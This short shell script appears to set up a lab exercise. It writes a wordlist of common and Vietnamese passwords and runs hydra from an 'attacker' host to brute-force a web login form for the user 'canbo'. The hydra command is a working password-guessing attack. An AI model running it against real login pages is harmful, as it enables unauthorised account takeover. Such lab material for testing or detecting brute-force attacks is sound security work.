# Passwords guessed against a log-in form.
# packages: hydra nginx-light python3
printf '%s\n' 123456 admin password root tinh2026 Abc@123 qwerty 111111 vietnam letmein matkhau admin123 P@ssw0rd test 12345678 abc123 a1 a2 a3 a4 a5 a6 >"$LAB_DIR/words"
LAB_SECONDS=20 from attacker hydra -I -t 4 -l canbo -P "$LAB_DIR/words" http-post-form://$SERVER'/app/login:username=^USER^&password=^PASS^:sai mat khau'
